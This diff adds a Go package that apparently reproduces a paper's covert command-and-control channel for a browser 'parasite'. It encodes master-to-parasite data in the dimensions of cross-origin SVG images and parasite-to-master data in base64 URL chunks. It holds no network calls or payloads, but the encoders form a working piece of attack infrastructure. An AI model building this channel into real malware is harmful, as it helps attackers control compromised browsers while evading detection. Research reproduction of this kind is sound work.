@@ -1,0 +1,167 @@
+// Package cnc implements the paper's bi-directional command-and-control
+// channel (§VI-C, Fig. 4).
+//
+// Downstream (master → parasite) the channel abuses an HTTP information
+// leak: when a page issues a cross-origin image request, the Same Origin
+// Policy hides the pixels but exposes the image *dimensions* so the page
+// can lay itself out. Each image therefore leaks two values in [0,65535]
+// — 4 bytes. The images are SVG so the wire cost stays around 100 bytes
+// per 4 payload bytes, and fetching many images concurrently yields a
+// usable channel (the paper measures 100 KB/s).
+//
+// Upstream (parasite → master) data is encoded into request URLs, which
+// carries no comparable bandwidth limit.
+package cnc
+
+import (
+	"encoding/base64"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"regexp"
+	"strconv"
+)
+
+// MaxDim is the largest dimension browsers accept; anything larger is
+// downgraded to this value ("once the dimension is over 65,535, the
+// browsers will downgrade it to this value"), so the alphabet per axis is
+// [0, 65535].
+const MaxDim = 65535
+
+// BytesPerImage is the payload each image carries: two uint16 dimensions.
+const BytesPerImage = 4
+
+// Dim is one image's width and height.
+type Dim struct {
+	W uint16
+	H uint16
+}
+
+// Clamp applies the browser downgrade rule to an arbitrary dimension.
+func Clamp(v int) uint16 {
+	if v < 0 {
+		return 0
+	}
+	if v > MaxDim {
+		return MaxDim
+	}
+	return uint16(v)
+}
+
+// EncodeDims converts a message into a sequence of image dimensions. The
+// message is framed with a 4-byte big-endian length prefix so the decoder
+// can strip padding.
+func EncodeDims(msg []byte) []Dim {
+	framed := make([]byte, 4+len(msg))
+	binary.BigEndian.PutUint32(framed[:4], uint32(len(msg)))
+	copy(framed[4:], msg)
+	// Pad to a multiple of BytesPerImage.
+	for len(framed)%BytesPerImage != 0 {
+		framed = append(framed, 0)
+	}
+	dims := make([]Dim, 0, len(framed)/BytesPerImage)
+	for i := 0; i < len(framed); i += BytesPerImage {
+		dims = append(dims, Dim{
+			W: binary.BigEndian.Uint16(framed[i : i+2]),
+			H: binary.BigEndian.Uint16(framed[i+2 : i+4]),
+		})
+	}
+	return dims
+}
+
+// Errors returned by the decoders.
+var (
+	ErrTruncated = errors.New("cnc: truncated dimension stream")
+	ErrBadSVG    = errors.New("cnc: not a channel SVG")
+)
+
+// DecodeDims reverses EncodeDims.
+func DecodeDims(dims []Dim) ([]byte, error) {
+	raw := make([]byte, 0, len(dims)*BytesPerImage)
+	for _, d := range dims {
+		var quad [4]byte
+		binary.BigEndian.PutUint16(quad[0:2], d.W)
+		binary.BigEndian.PutUint16(quad[2:4], d.H)
+		raw = append(raw, quad[:]...)
+	}
+	if len(raw) < 4 {
+		return nil, fmt.Errorf("%w: %d bytes", ErrTruncated, len(raw))
+	}
+	n := binary.BigEndian.Uint32(raw[:4])
+	if int(n) > len(raw)-4 {
+		return nil, fmt.Errorf("%w: frame wants %d bytes, have %d", ErrTruncated, n, len(raw)-4)
+	}
+	return raw[4 : 4+n], nil
+}
+
+// ImagesNeeded reports how many images carry a message of n bytes.
+func ImagesNeeded(n int) int {
+	framed := n + 4
+	return (framed + BytesPerImage - 1) / BytesPerImage
+}
+
+// RenderSVG produces the ~100-byte SVG whose only information content is
+// its dimensions ("An SVG image, having no actual content, is of size 100
+// bytes").
+func RenderSVG(d Dim) []byte {
+	return []byte(fmt.Sprintf(
+		`<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d"></svg>`,
+		d.W, d.H))
+}
+
+var svgDimRe = regexp.MustCompile(`<svg[^>]*\swidth="(\d+)"\s+height="(\d+)"`)
+
+// ParseSVG extracts the dimensions from a channel SVG, applying the
+// browser clamp — this is what the victim browser exposes to the page.
+func ParseSVG(svg []byte) (Dim, error) {
+	m := svgDimRe.FindSubmatch(svg)
+	if m == nil {
+		return Dim{}, ErrBadSVG
+	}
+	w, err := strconv.Atoi(string(m[1]))
+	if err != nil {
+		return Dim{}, fmt.Errorf("%w: width", ErrBadSVG)
+	}
+	h, err := strconv.Atoi(string(m[2]))
+	if err != nil {
+		return Dim{}, fmt.Errorf("%w: height", ErrBadSVG)
+	}
+	return Dim{W: Clamp(w), H: Clamp(h)}, nil
+}
+
+// Upstream URL channel ------------------------------------------------
+
+// DefaultChunkSize is the payload carried per upstream request URL. URLs
+// have no hard protocol limit but middleboxes commonly cap around 2 KB;
+// 1024 payload bytes encode to ~1366 URL characters.
+const DefaultChunkSize = 1024
+
+// EncodeURLChunks splits data into URL-safe base64 path segments of at
+// most chunkSize payload bytes each.
+func EncodeURLChunks(data []byte, chunkSize int) []string {
+	if chunkSize <= 0 {
+		chunkSize = DefaultChunkSize
+	}
+	var out []string
+	for len(data) > 0 {
+		n := chunkSize
+		if n > len(data) {
+			n = len(data)
+		}
+		out = append(out, base64.RawURLEncoding.EncodeToString(data[:n]))
+		data = data[n:]
+	}
+	if len(out) == 0 {
+		out = []string{""}
+	}
+	return out
+}
+
+// DecodeURLChunk reverses one chunk.
+func DecodeURLChunk(chunk string) ([]byte, error) {
+	b, err := base64.RawURLEncoding.DecodeString(chunk)
+	if err != nil {
+		return nil, fmt.Errorf("cnc: bad upstream chunk: %w", err)
+	}
+	return b, nil
+}
